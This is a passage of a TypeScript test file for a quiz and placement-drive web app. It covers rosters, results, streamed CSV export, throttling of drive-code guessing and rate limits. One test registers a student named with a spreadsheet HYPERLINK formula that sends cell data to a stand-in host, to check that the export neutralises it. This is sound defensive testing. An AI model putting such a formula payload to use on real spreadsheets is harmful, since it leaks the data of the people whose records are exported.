      expect((await register({ driveCode: drive.code, name: "Ravi Usn", usnNo: "1sr24cs077" })).statusCode).toBe(200);
      const listed = await app.inject({ method: "GET", url: `/api/drives/${drive._id}/roster`, headers: asAdmin });
      expect(listed.statusCode).toBe(200);
      expect(listed.headers["x-total-count"]).toBe("3");
      const lines = listed.json();
      expect(lines).toEqual([
        { email: "Anil@Example.com", usnNo: "1SR24CS078", registered: null, link: null },
        { email: "zoya@example.com", usnNo: null, registered: null, link: null },
        {
          email: null,
          usnNo: "1SR24CS077",
          registered: { studentId: expect.any(String), name: "Ravi Usn" },
          link: null,
        },
      ]);
      const second = await app.inject({
        method: "GET",
        url: `/api/drives/${drive._id}/roster?page=2&pageSize=2`,
        headers: asAdmin,
      });
      expect(second.json()).toEqual([lines[2]]);
      const unknown = await app.inject({
        method: "GET",
        url: "/api/drives/00000000-0000-4000-8000-000000000000/roster",
        headers: asAdmin,
      });
      expect(unknown.statusCode).toBe(404);
    });

    it("keeps a student's email and USN unique within a drive, not across drives", async () => {
      const drive = await driveWith({ name: "Second batch", questionCount: 3 });
      const input = studentInput();
      expect((await register({ ...input })).statusCode).toBe(200);
      const elsewhere = await register({ ...input, driveCode: drive.code });
      expect(elsewhere.statusCode).toBe(200);
      expect(elsewhere.json().resumeCode).toBeDefined();
    });

    it("lists a drive's results with pass/fail and how often each student left the quiz, and as CSV", async () => {
      const drive = await driveWith({ name: "Results", questionCount: 3, timingMode: "whole_quiz", passMark: 60 });
      const { token } = (await register({ driveCode: drive.code, name: "Asha Rao" })).json();
      const formula = (
        await register({ driveCode: drive.code, name: '=HYPERLINK("http://x.example/?leak="&C2,"Click")' })
      ).json();
      await startAll(formula.token);
      await submit(formula.token, []);
      const questions = (await startAll(token)).json() as QuizQuestion[];
      for (const position of [0, 0, 2]) {
        const focus = await app.inject({
          method: "POST",
          url: "/api/quiz/focus",
          headers: bearer(token),
          payload: { position },
        });
        expect(focus.statusCode).toBe(200);
      }
      const answers = questions
        .slice(0, 2)
        .map((question) => ({ questionId: question._id, optionId: rightOption(question) }));
      const { resultId } = (await submit(token, answers)).json();
      const results = (
        await app.inject({ method: "GET", url: `/api/drives/${drive._id}/results`, headers: asAdmin })
      ).json();
      expect(results[0]).toEqual(
        expect.objectContaining({
          _id: resultId,
          studentName: "Asha Rao",
          score: 2,
          marks: 2,
          totalQuestions: 3,
          percentage: "66.67",
          passed: true,
          focusLosses: 3,
          lateAnswers: null,
          burstAnswers: 0,
        }),
      );
      expect(results).toHaveLength(2);
      const detail = (
        await app.inject({ method: "GET", url: `/api/students/results/${resultId}`, headers: asAdmin })
      ).json();
      expect(detail.focusLosses).toBe(3);
      expect(detail.answers.map((answer: { focusLosses: number }) => answer.focusLosses)).toEqual([2, 0, 1]);
      // Timed as a whole: no question has a time of its own to answer in.
      expect(detail.answers.map((answer: { secondsToAnswer: number | null }) => answer.secondsToAnswer)).toEqual([
        null,
        null,
        null,
      ]);
      const csv = await app.inject({ method: "GET", url: `/api/drives/${drive._id}/results.csv`, headers: asAdmin });
      expect(csv.headers["content-type"]).toContain("text/csv");
      expect(csv.body.split("\n")[0]).toBe(
        "Student,Email,USN,College,Drive,Test,Right answers,Marks,Questions,Score (%),Result,Submitted,Time zone," +
          "Auto-submitted,Left the quiz (times),Late answers,Answers in a burst,Sections",
      );
      expect(csv.body).toContain("Asha Rao");
      // Submitted by the student in time; not timed per question: no late answers; two answers sent with the
      // submit are not a burst.
      expect(csv.body).toContain(",66.67,Pass,");
      expect(csv.body).toMatch(/,No,3,,0,\n/);
      // A name that is a spreadsheet formula is written as text.
      expect(csv.body).toContain(`"'=HYPERLINK(""http://x.example/?leak=""&C2,""Click"")"`);
    });
  });
});

describe("a large drive's results", async () => {
  const { app, database } = await createTestApp();
  const asAdmin = bearer(await adminToken(app, database.db));

  it("stream as CSV in batches: every attempt once, best first, ties in submission order", async () => {
    const { _id: testId } = (
      await app.inject({ method: "POST", url: "/api/tests", headers: asAdmin, payload: { name: "Large" } })
    ).json();
    const drive = (
      await app.inject({ method: "POST", url: "/api/drives", headers: asAdmin, payload: { name: "Large", testId } })
    ).json();
    // 2,500 attempts over 26 scores: more than two batches, each batch boundary inside a run of equal marks.
    // Submissions share timestamps in pairs, so the id must break those ties too.
    const attempts = 2_500;
    await database.pool.query(
      `insert into students (name, email, phone, usn_no, college, course, "group", year, drive_id)
       select 'Student ' || n, 'large' || n || '@example.com', '9876543210', 'LARGE' || n, 'College', 'B.E.',
              'CSE', '2025', $1
       from generate_series(1, ${attempts}) n`,
      [drive._id],
    );
    await database.pool.query(
      `insert into attempts (student_id, drive_id, deadline_at, seconds_per_question, total_questions, timing_mode,
         paced, review_policy, started_at, submitted_at, score, marks)
       select s.id, s.drive_id, now(), 30, 25, 'per_question', true, 'score_and_ticks', now(),
              timestamptz '2026-11-20 10:00:00' + make_interval(secs => (n / 2)::int), n % 26, (n % 26) - 0.25
       from (select id, drive_id, row_number() over (order by usn_no) as n from students where drive_id = $1) s`,
      [drive._id],
    );
    const { rows: expected } = await database.pool.query<{ usn_no: string }>(
      `select s.usn_no from attempts a join students s on s.id = a.student_id where a.drive_id = $1
       order by a.marks desc, a.submitted_at, a.id`,
      [drive._id],
    );

    const csv = await app.inject({ method: "GET", url: `/api/drives/${drive._id}/results.csv`, headers: asAdmin });
    expect(csv.statusCode).toBe(200);
    // Streamed: sent as it is read, so no length is known up front.
    expect(csv.headers["content-length"]).toBeUndefined();
    const lines = csv.body.trimEnd().split("\n").slice(1);
    expect(lines).toHaveLength(attempts);
    expect(lines.map((line) => line.split(",")[2])).toEqual(expected.map((row) => row.usn_no));
    expect(lines[0]).toMatch(/,25,24.75,25,99.00,,2026-11-20 15:30:\d\d,Asia\/Kolkata,No,0,0,0,$/);

    // Without a limit the list answers the best LIST_CAP (1,000), never all 2,500: the CSV is for every attempt.
    const json = (
      await app.inject({ method: "GET", url: `/api/drives/${drive._id}/results`, headers: asAdmin })
    ).json();
    expect(json.map((row: { usnNo: string }) => row.usnNo)).toEqual(
      expected.slice(0, LIST_CAP).map((row) => row.usn_no),
    );

    // The drive's page asks for the best few only.
    const best = await app.inject({
      method: "GET",
      url: `/api/drives/${drive._id}/results?limit=100`,
      headers: asAdmin,
    });
    expect(best.json().map((row: { usnNo: string }) => row.usnNo)).toEqual(
      expected.slice(0, 100).map((row) => row.usn_no),
    );
    for (const limit of ["0", "1001", "ten", "1e400"]) {
      const refused = await app.inject({
        method: "GET",
        url: `/api/drives/${drive._id}/results?limit=${limit}`,
        headers: asAdmin,
      });
      expect(refused.statusCode, limit).toBe(400);
    }
  });
});

describe("guessing drive codes", async () => {
  const { app, database } = await createTestApp();
  const admin = bearer(await adminToken(app, database.db));

  it("keeps a drive on its test once a student has started it", async () => {
    const first = (
      await app.inject({ method: "POST", url: "/api/tests", headers: admin, payload: { name: "First test" } })
    ).json();
    const other = (
      await app.inject({ method: "POST", url: "/api/tests", headers: admin, payload: { name: "Other test" } })
    ).json();
    const drive = (
      await app.inject({
        method: "POST",
        url: "/api/drives",
        headers: admin,
        payload: { name: "Kept on its test", testId: first._id },
      })
    ).json();
    const moveTo = (testId: string) =>
      app.inject({
        method: "PUT",
        url: `/api/drives/${drive._id}`,
        headers: admin,
        payload: { name: drive.name, testId },
      });
    // Before anyone starts, the admin may still change it (and back).
    expect((await moveTo(other._id)).statusCode).toBe(200);
    expect((await moveTo(first._id)).statusCode).toBe(200);
    await seedQuestions(database.db, 3);
    const student = await registerStudent(app, { driveCode: drive.code });
    await app.inject({ method: "GET", url: "/api/quiz/questions", headers: bearer(student.token) });
    const refused = await moveTo(other._id);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().error).toBe(
      "Students have started this drive's test, so its results belong to that test. Create a new drive to give another test.",
    );
  });

  it("makes up codes long enough that guessing one is hopeless: 8 characters, 40 bits", async () => {
    const test = (
      await app.inject({ method: "POST", url: "/api/tests", headers: admin, payload: { name: "Code length" } })
    ).json();
    for (let made = 0; made < 5; made++) {
      const drive = await app.inject({
        method: "POST",
        url: "/api/drives",
        headers: admin,
        payload: { name: `Made-up code ${made}`, testId: test._id },
      });
      expect(drive.json().code).toMatch(/^[A-HJ-NP-Z2-9]{8}$/);
    }
  });

  it("makes each code after 20 refused ones wait, twice as long after each further failure, up to 30 s", () => {
    const now = Date.UTC(2026, 10, 26, 9, 0, 0);
    const failures = (count: number, secondsAgo: number) => ({
      count,
      lastAt: now - secondsAgo * 1000,
      resetAt: now + 5 * 60_000,
    });
    expect(driveCodeWaitMs(undefined, now)).toBe(0);
    expect(driveCodeWaitMs(failures(19, 0), now)).toBe(0);
    expect(driveCodeWaitMs(failures(20, 0), now)).toBe(1_000);
    expect(driveCodeWaitMs(failures(22, 1), now)).toBe(3_000);
    expect(driveCodeWaitMs(failures(40, 0), now)).toBe(30_000);
    expect(driveCodeWaitMs(failures(40, 31), now)).toBe(0);
    // Never past the end of the window, when the failures are forgotten.
    expect(driveCodeWaitMs({ count: 40, lastAt: now, resetAt: now + 2_000 }, now)).toBe(2_000);
  });

  const { _id: testId } = (
    await app.inject({ method: "POST", url: "/api/tests", headers: admin, payload: { name: "Guessed" } })
  ).json();
  const { code } = (
    await app.inject({ method: "POST", url: "/api/drives", headers: admin, payload: { name: "Guessed", testId } })
  ).json();
  const register = (driveCode: string, remoteAddress: string) =>
    app.inject({
      method: "POST",
      url: "/api/auth/student/register",
      payload: { ...studentInput(), driveCode },
      remoteAddress,
    });

  it("slows an address after 20 refused codes, whichever codes they were, and leaves other addresses alone", async () => {
    // Twenty different wrong codes: each drive code's own registration limit never fires.
    for (let guess = 0; guess < DRIVE_CODE_GUESSES.freeFailures; guess++) {
      expect((await register(`GUESS${String(guess).padStart(2, "0")}`, "127.0.0.20")).statusCode).toBe(403);
    }
    // The 21st waits a second after the 20th (driveCodeWaitMs above). Five more failures, each after its wait:
    // the next code, even a right one, waits the longest, 30 s.
    await database.pool.query(
      "update limit_counters set count = count + 5, last_at = now() where key = 'drive-code-failures:127.0.0.20'",
    );
    const slowed = await register(code, "127.0.0.20");
    expect(slowed.statusCode).toBe(429);
    expect(slowed.json().error).toMatch(
      /^Too many wrong drive codes from this network\. Try again in (29|30) seconds\.$/,
    );
    expect(["29", "30"]).toContain(slowed.headers["retry-after"]);
    expect((await register(code, "127.0.0.21")).statusCode).toBe(200);
  });

  it("looks up no more than 20 codes of a flood sent at once from one address", async () => {
    const flood = await Promise.all(
      Array.from({ length: 60 }, (_, guess) => register(`FLOOD${String(guess).padStart(2, "0")}`, "127.0.0.22")),
    );
    const statuses = flood.map((response) => response.statusCode);
    expect(statuses.filter((status) => status === 403)).toHaveLength(DRIVE_CODE_GUESSES.freeFailures);
    expect(statuses.filter((status) => status === 429)).toHaveLength(60 - DRIVE_CODE_GUESSES.freeFailures);
  });

  it("answers every refused code alike and no sooner than its floor, so neither words nor time say which check refused", async () => {
    const rostered = (
      await app.inject({
        method: "POST",
        url: "/api/drives",
        headers: admin,
        payload: { name: "Timed roster", testId, rosterOnly: true },
      })
    ).json();
    await app.inject({
      method: "PUT",
      url: `/api/drives/${rostered._id}/roster`,
      headers: { ...admin, "content-type": "text/csv" },
      payload: "email,usn\nlisted@example.com,1SR24CS555\n",
    });
    const askCode = (driveCode: string, remoteAddress: string) =>
      app.inject({
        method: "POST",
        url: "/api/auth/student/email-code",
        payload: { driveCode, email: "listed@example.com" },
        remoteAddress,
      });
    const refusals = [
      () => register("NOSUCH01", "127.0.0.30"),
      () => register(rostered.code, "127.0.0.31"),
      // Asking a roster's drive for an e-mail code said "this drive does not ask for one" (409): it exists.
      () => askCode("NOSUCH02", "127.0.0.32"),
      () => askCode(rostered.code, "127.0.0.33"),
    ];
    const bodies = new Set<string>();
    for (const refuse of refusals) {
      const sent = performance.now();
      const response = await refuse();
      const took = performance.now() - sent;
      expect(response.statusCode, response.body).toBe(403);
      expect(took).toBeGreaterThanOrEqual(REFUSAL_FLOOR_MS);
      bodies.add(response.body);
    }
    expect([...bodies]).toEqual([
      JSON.stringify({
        statusCode: 403,
        error: NOT_ADMITTED,
        message: NOT_ADMITTED,
        fields: { driveCode: NOT_ADMITTED },
      }),
    ]);
  });

  it("counts a right code as no failure: a lab registering 25 students from one address is never slowed", async () => {
    for (let student = 0; student < 25; student++) expect((await register(code, "127.0.0.23")).statusCode).toBe(200);
    // Past 20 counted tries this would wait; it is looked up.
    expect((await register("WRONG1", "127.0.0.23")).statusCode).toBe(403);
  });
});

describe("registration limits", async () => {
  const { app, database } = await createTestApp({ registrationRateLimit: 3 });
  const admin = bearer(await adminToken(app, database.db));

  it("limits registrations per drive and address, so one college's address does not block another drive", async () => {
    const { _id: testId } = (
      await app.inject({ method: "POST", url: "/api/tests", headers: admin, payload: { name: "Limited" } })
    ).json();
    const codes: string[] = [];
    for (const name of ["Limited A", "Limited B"]) {
      const drive = await app.inject({ method: "POST", url: "/api/drives", headers: admin, payload: { name, testId } });
      codes.push(drive.json().code);
    }
    const register = (driveCode: string | undefined, remoteAddress: string) =>
      app.inject({
        method: "POST",
        url: "/api/auth/student/register",
        payload: { ...studentInput(), driveCode },
        remoteAddress,
      });
    for (let index = 0; index < 3; index++) expect((await register(codes[0], "127.0.0.9")).statusCode).toBe(200);
    const limited = await register(codes[0], "127.0.0.9");
    expect(limited.statusCode).toBe(429);
    expect(limited.json().error).toBe("Too many requests. Please wait a moment and try again.");
    expect((await register(codes[1], "127.0.0.9")).statusCode).toBe(200);
    expect((await register(undefined, "127.0.0.9")).statusCode).toBe(200);
    expect((await register(codes[0], "127.0.0.10")).statusCode).toBe(200);
  });
});
